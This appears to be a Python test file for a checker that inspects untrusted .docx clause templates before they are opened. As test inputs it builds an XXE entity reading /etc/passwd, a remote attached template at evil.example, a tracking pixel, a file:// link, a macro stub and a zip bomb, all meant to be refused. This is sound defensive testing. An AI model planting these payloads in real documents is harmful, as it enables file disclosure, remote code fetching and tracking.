"""Template files are untrusted: the container is checked before anything opens it."""

from __future__ import annotations

import io
import zipfile

import docx
import pytest

from clausegen.render.safety import (
    PackageLimits,
    UnsafeTemplateError,
    check_package,
    inspect_package,
)
from tests.template_builders import rewrite


def clean_docx() -> bytes:
    document = docx.Document()
    paragraph = document.add_paragraph("Voir ")
    part = document.part
    rel = part.relate_to(
        "https://www.legifrance.gouv.fr",
        "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink",
        is_external=True,
    )
    assert rel
    paragraph.add_run("Légifrance")
    stream = io.BytesIO()
    document.save(stream)
    return stream.getvalue()


def codes(data: bytes, limits: PackageLimits | None = None) -> list[tuple[str, str]]:
    findings = inspect_package(data, limits=limits or PackageLimits())
    return [(f.code, f.part) for f in findings]


def test_a_plain_word_document_with_a_web_link_is_accepted() -> None:
    assert inspect_package(clean_docx()) == []
    check_package(clean_docx(), template="ccap.docx")


def test_not_a_zip() -> None:
    with pytest.raises(UnsafeTemplateError) as caught:
        check_package(b"hello", template="ccap.docx")
    assert str(caught.value) == "ccap.docx: is not a Word document (.docx): it is not a zip package"
    assert caught.value.exit_code == 3


def test_doctype_is_refused() -> None:
    source = zipfile.ZipFile(io.BytesIO(clean_docx()))
    body = source.read("word/document.xml")
    evil = body.replace(
        b"<w:document",
        b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:document',
        1,
    )
    data = rewrite(clean_docx(), {"word/document.xml": evil})
    assert codes(data) == [("doctype", "word/document.xml")]


def test_remote_attached_template_is_refused() -> None:
    rels = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/attachedTemplate" Target="https://evil.example/t.dotm" '
        b'TargetMode="External"/></Relationships>'
    )
    data = rewrite(clean_docx(), {"word/_rels/settings.xml.rels": rels})
    with pytest.raises(UnsafeTemplateError) as caught:
        check_package(data, template="rc.docx")
    assert str(caught.value) == (
        "rc.docx: word/_rels/settings.xml.rels: points to external content (attachedTemplate: "
        "https://evil.example/t.dotm), which Word would fetch when the document opens: refused"
    )


def test_linked_image_and_file_hyperlink_are_refused() -> None:
    rels = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/image" Target="http://tracker.example/pixel.png" TargetMode="External"/>'
        b'<Relationship Id="rId8" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/hyperlink" Target="file:///C:/secret" TargetMode="External"/>'
        b"</Relationships>"
    )
    data = rewrite(clean_docx(), {"word/_rels/document.xml.rels": rels})
    assert codes(data) == [
        ("external-relationship", "word/_rels/document.xml.rels"),
        ("external-relationship", "word/_rels/document.xml.rels"),
    ]


def test_macros_are_refused() -> None:
    data = rewrite(clean_docx(), {"word/vbaProject.bin": b"\x00" * 10})
    assert codes(data) == [("macros", "word/vbaProject.bin")]


def test_zip_bombs_and_oversized_packages_are_refused() -> None:
    bomb = rewrite(clean_docx(), {"word/media/big.xml": b"0" * (3 * 1024 * 1024)})
    assert codes(bomb) == [("too-compressed", "word/media/big.xml")]
    assert codes(clean_docx(), PackageLimits(max_members=3)) == [("too-large", "")]
    assert codes(clean_docx(), PackageLimits(max_total_size=1000)) == [("too-large", "")]


def test_french_messages_for_legal_staff() -> None:
    (finding,) = inspect_package(rewrite(clean_docx(), {"word/vbaProject.bin": b"x"}))
    assert finding.message_fr == (
        "contient des macros (un projet VBA), qu'un modèle de clause ne doit pas contenir"
    )
